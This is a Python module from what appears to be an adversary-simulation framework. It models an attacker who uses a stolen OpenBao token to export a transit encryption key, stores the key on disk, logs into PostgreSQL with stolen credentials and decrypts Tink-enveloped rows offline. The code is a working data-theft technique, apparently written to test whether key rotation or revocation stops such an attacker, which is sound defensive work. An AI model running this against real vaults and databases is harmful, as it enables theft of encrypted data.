"""Exports a key from OpenBao once with a stolen token, then reads rows with a stolen login and decrypts them offline.

Nothing that happens to the key in OpenBao afterwards stops this attacker: only the rows can be taken away, or encrypted
again under other data keys.
"""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path
from typing import Any, ClassVar

import httpx
import psycopg
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from psycopg import sql

from simulations.journals import AdversaryConfig, Loot
from simulations.techniques.lane import Finding
from simulations.techniques.stolen import open_tink_payload, split_tink

_OPTIONS = "-c statement_timeout=2000 -c lock_timeout=1000"


class TransitOfflineDecrypt:
    """One lane, since the key is exported once; its tries alternate between an open connection and a fresh login."""

    lanes: ClassVar[tuple[str, ...]] = ("rows",)

    def __init__(self, config: AdversaryConfig, loot: Loot, *, lane: str) -> None:
        self._config = config
        self._loot = loot
        self._lane = lane
        self._kept: psycopg.Connection[Any] | None = None
        self._tries = 0
        self._exported: dict[str, str] = {}

    def attempt(self) -> Finding:
        """Read a random row as it is now and decrypt it with the exported key."""
        self._tries += 1
        route = "open" if self._tries % 2 else "fresh"
        try:
            material = self._material()
            row, value = self._read_row(route)
            plain = decrypt_row(value, material, aad=str(row).encode())
        except httpx.HTTPStatusError as error:
            return Finding(False, f"export-{error.response.status_code}", route)
        except httpx.HTTPError:
            return Finding(False, "unreachable", route)
        except psycopg.Error as error:
            self._kept = None if route == "open" else self._kept
            return Finding(False, _sql_code(error), route)
        except KeyError:
            return Finding(False, "no-row", route)
        except NotOurs as error:
            return Finding(False, str(error), route)
        except InvalidTag:
            return Finding(False, "wrong-key", route)
        return Finding(bool(plain), "", route)

    def _material(self) -> dict[str, str]:
        """The exported key by version, kept in a file beside the loot so that it outlives this process."""
        saved = Path(f"{self._config.loot}.exported")
        if not self._exported and saved.exists():
            self._exported = json.loads(saved.read_text(encoding="utf-8"))
        if not self._exported:
            answer = httpx.get(
                f"{self._config.url}/v1/{self._config.transit_mount}/export/encryption-key/{self._config.transit_key}",
                headers={"X-Vault-Token": self._loot.token, "User-Agent": self._config.user_agent},
                timeout=httpx.Timeout(2.0, connect=1.0),
                trust_env=False,
            )
            answer.raise_for_status()
            self._exported = answer.json()["data"]["keys"]
            descriptor = os.open(saved, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
            with os.fdopen(descriptor, "w", encoding="utf-8") as stream:
                json.dump(self._exported, stream)
        return self._exported

    def _read_row(self, route: str) -> tuple[Any, bytes]:
        if route == "fresh":
            with psycopg.connect(self._loot.dsn, connect_timeout=2, options=_OPTIONS) as connection:
                return self._select(connection)
        if self._kept is None:
            self._kept = psycopg.connect(self._loot.dsn, connect_timeout=2, options=_OPTIONS, autocommit=True)
        return self._select(self._kept)

    def _select(self, connection: psycopg.Connection[Any]) -> tuple[Any, bytes]:
        schema, _, table = self._config.table.rpartition(".")
        query = sql.SQL("SELECT {id}, {column} FROM {table} ORDER BY random() LIMIT 1").format(
            id=sql.Identifier(self._config.key_column),
            column=sql.Identifier(self._config.column),
            table=sql.Identifier(schema or "public", table),
        )
        row = connection.execute(query, binary=True).fetchone()
        if row is None:
            raise KeyError("no row")
        return row[0], bytes(row[1])


class NotOurs(Exception):
    """The row's data key is not wrapped by the stolen key (any more)."""


def decrypt_row(value: bytes, material: dict[str, str], *, aad: bytes) -> bytes:
    """The plaintext of a Tink envelope whose data key is a transit ciphertext, by exported material alone.

    Raises NotOurs when it names a version that was not exported or is no transit ciphertext, InvalidTag when the key
    does not open it.
    """
    wrapped, payload = split_tink(value)
    kind, _, rest = wrapped.decode(errors="replace").partition(":")
    version, _, sealed = rest.partition(":")
    if kind != "vault" or version.removeprefix("v") not in material:
        raise NotOurs("other-key-version")
    key = base64.b64decode(material[version.removeprefix("v")])
    blob = base64.b64decode(sealed)
    data_key = AESGCM(key).decrypt(blob[:12], blob[12:], b"")
    return open_tink_payload(payload, data_key, aad)


def _sql_code(error: psycopg.Error) -> str:
    """The SQLSTATE; where libpq gives none (a login that failed), the reason its message tells."""
    if error.sqlstate:
        return error.sqlstate
    text = str(error)
    if "timeout" in text:
        return "timeout"
    for words, code in (
        ("password authentication failed", "28P01"),
        ("is not permitted to log in", "28000"),
        ("no pg_hba.conf entry", "28000"),
        ("permission denied for database", "42501"),
        ("terminating connection", "57P01"),
        ("Connection refused", "unreachable"),
    ):
        if words in text:
            return code
    return "unreachable"
